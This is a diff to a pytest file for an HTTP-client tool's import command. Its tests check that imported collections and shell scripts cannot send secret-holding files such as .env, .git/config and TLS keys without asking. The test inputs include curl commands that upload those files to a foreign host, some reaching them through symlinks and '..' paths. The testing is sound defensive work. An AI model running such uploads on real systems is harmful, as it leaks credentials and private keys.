@@ -219,20 +219,63 @@ def test_a_refused_import_is_an_object_too(shell: Shell, workspace: Path) -> Non
     assert said.json["error"]["what"] in said.err
 
 
-@pytest.mark.parametrize("file", ["environments/dev.local.toml", ".env", ".env.prod"])
+KEPT = {
+    "an overlay": "environments/dev.local.toml",
+    "a dotenv file": ".env",
+    "one of an environment": ".env.prod",
+    "an environment": "environments/two.toml",
+    "the settings": "outrider.toml",
+    "a folder": "requests/sub/folder.toml",
+    "of git": ".git/config",
+    "named by a secret": "keys/s.txt",
+    "lines of another name": "keys/lines",
+    "a key of TLS": "certs/me.key",
+    "a certificate with its key": "certs/me.p12",
+    "read by a command": "keys/c.txt",
+}
+NAMED = (
+    '[variables]\ndir = "certs"\n[secrets]\ns = { file = "keys/s.txt" }\n'
+    'l = { dotenv = "./keys/lines", key = "A" }\n'
+    'c = { command = ["cat", "keys/c.txt"] }\n'
+    '[tls]\nclient_key = "{{dir}}/../certs/me.key"\nclient_certificate = "certs/me.p12"\n'
+)
+
+
+@pytest.mark.parametrize("where", KEPT)
 def test_a_file_that_keeps_secrets_is_sent_by_no_import_unasked(
-    shell: Shell, workspace: Path, file: str
+    shell: Shell, workspace: Path, where: str
 ) -> None:
-    (workspace / file).write_text('[secrets]\napi_token = "kept-here"\n')
-    (workspace / file).chmod(0o600)
+    (workspace / "environments/named.toml").write_text(NAMED)
+    file = workspace / KEPT[where]
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_text('[variables]\napi_token = "kept-here"\n')
+    file.chmod(0o600)
+    (workspace / "plain-link").symlink_to(file)
+    relative = KEPT[where]
     files = {
-        "c.json": collection(body("file", file={"src": file})),
-        "c.sh": f"curl {FOREIGN} --data-binary @{workspace / file}\n",
+        "c.json": collection(body("file", file={"src": relative})),
+        "f.json": collection(
+            body("formdata", formdata=[{"key": "a", "src": relative, "type": "file"}])
+        ),
+        "l.json": collection(body("file", file={"src": "./environments/../plain-link"})),
+        "c.sh": f"curl {FOREIGN} --data-binary @{file}\n",
+        "d.sh": f"curl {FOREIGN} -d @{workspace}/plain-link\n",
+        "t.sh": f"curl {FOREIGN} -T {relative}\n",
     }
+    before = set(workspace.rglob("*"))
     for name, text in files.items():
         (shell.folder / name).write_text(text)
         said = shell.run("import", name, "--into", str(workspace))
-        assert said.status == 2, said.text
-        assert file.rpartition("/")[2] in said.text
-        assert not list((workspace / "requests").rglob("r.toml"))
-    assert not any("kept-here" in path.read_text() for path in (workspace / "requests").rglob("*"))
+        assert said.status == 2, (name, said.text)
+        assert f"the file {file} with secrets is" in said.text, name
+        assert "outside the workspace" not in said.text
+        assert set(workspace.rglob("*")) == before
+
+
+def test_a_file_without_secrets_is_sent_unasked(shell: Shell, workspace: Path) -> None:
+    (workspace / "environments/named.toml").write_text(NAMED)
+    (workspace / "data").mkdir()
+    (workspace / "data/orders.toml").write_text("a = 1\n")
+    text = collection(body("file", file={"src": "data/orders.toml"}))
+    said = imported(shell, text, "--into", "w", "--json")
+    assert (said.status, said.json["needs"]) == (0, [])
